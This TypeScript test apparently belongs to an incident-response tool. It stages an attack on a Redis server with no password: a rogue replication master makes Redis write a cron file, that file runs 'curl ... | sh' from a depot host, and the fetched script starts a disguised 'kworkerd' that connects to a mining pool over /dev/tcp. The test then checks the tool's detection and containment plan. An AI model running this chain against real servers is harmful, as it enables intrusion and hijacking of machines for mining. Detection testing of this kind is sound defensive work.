/** (c) A Redis without a password is told to save its data as a cron table; the job fetches a miner. */
import { copyFileSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario } from '../scenario-host.ts';
import { reported } from './report.ts';
import { attacker, depot, greeting, hostAddress, ordinaryLoad, pool, prove, says, type Scene, serveFiles, servePool, startScene } from './scene.ts';

/** Answers a replica as a Redis would, with the content of a file as its data. */
const master = `
import socket, sys
data = open(sys.argv[2], 'rb').read()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], 6400)); s.listen(5); print('ready')
while True:
    c, _ = s.accept()
    while True:
        q = c.recv(4096)
        if not q: break
        if b'PING' in q.upper(): c.sendall(b'+PONG\\r\\n')
        elif b'PSYNC\\r' in q.upper(): c.sendall(b'+FULLRESYNC ' + b'a' * 40 + b' 1\\r\\n$' + str(len(data)).encode() + b'\\r\\n' + data); break
        else: c.sendall(b'+OK\\r\\n')
`;
const place = '/var/tmp/.cache';

describe.skipIf(lacksScenario(['/usr/bin/redis-server', '/usr/bin/redis-cli', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(c) Redis without a password, cron, miner', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;
  // Through the client's own bind address: the attacker's.
  const redis = async (...args: string[]): Promise<string> => (await scene.host.outside('/usr/bin/socat', ['-t', '2', '-', `TCP:${hostAddress}:6379,bind=${attacker}`], { input: `${args.map((one) => (/[\s"]/.test(one) ? JSON.stringify(one) : one)).join(' ')}\r\nQUIT\r\n` })).stdout;

  beforeAll(async () => {
    scene = await startScene({
      async ready(host) {
        host.plant('/etc/redis/open.conf', 'bind 0.0.0.0\nprotected-mode no\ndir /var/lib/redis\nsave ""\nlogfile /var/log/redis/redis.log\nenable-protected-configs yes\n');
        await host.service('redis-server', '[Service]\nExecStart=/usr/bin/redis-server /etc/redis/open.conf\n');
        await ordinaryLoad(host);
      },
    });
    copyFileSync('/bin/bash', join(kit, 'shell'));
    writeFileSync(join(kit, 'x.sh'), `mkdir -p ${place}\ncurl -fsS http://${depot}/shell -o ${place}/kworkerd\ncurl -fsS http://${depot}/job -o ${place}/job\nchmod 755 ${place}/kworkerd\nsetsid ${place}/kworkerd ${place}/job > /dev/null 2>&1 &\n`);
    writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
    await serveFiles(scene.host, kit);
    await servePool(scene.host);
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is one incident from the first command to the miner, and ends with its plan', async () => {
    // As attackers do it: a master of their own whose "data" is the table, to the byte. cron here takes no file with rubbish in it.
    writeFileSync(join(kit, 'table'), `@reboot root curl -fsS http://${depot}/x.sh | sh\n`);
    await says(scene.host.beginOutside('/usr/bin/python3', ['-u', '-c', master, depot, join(kit, 'table')]), 'ready');
    for (const command of [['config', 'set', 'dir', '/etc/cron.d'], ['config', 'set', 'dbfilename', 'backup1'], ['replicaof', depot, '6400']]) expect(await redis(...command)).toContain('OK');
    await scene.until('the table to be there', () => existsSync(join(scene.host.root, 'etc/cron.d/backup1')));
    for (const command of [['replicaof', 'no', 'one'], ['config', 'set', 'dir', '/var/lib/redis'], ['config', 'set', 'dbfilename', 'dump.rdb']]) expect(await redis(...command)).toContain('OK');
    // The machine is started again, as far as cron can tell: nobody waits for a minute to pass.
    rmSync(join(scene.host.root, 'run/crond.reboot'), { force: true });
    await scene.host.systemctl('restart', 'cron.service');
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'service', address: attacker }, level: 'critical', grade: 2,
      steps: ['freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`, 'quarantine-file /etc/cron.d/backup1', `quarantine-file ${place}/kworkerd`, `quarantine-file ${place}/job`, 'kill-tree process'],
      checks: ['cron'], running: /kworkerd/,
    });
    reported(scene, incident, plan, { says: [attacker, depot, pool, '/etc/cron.d/backup1', `${place}/kworkerd`] });
  });
});
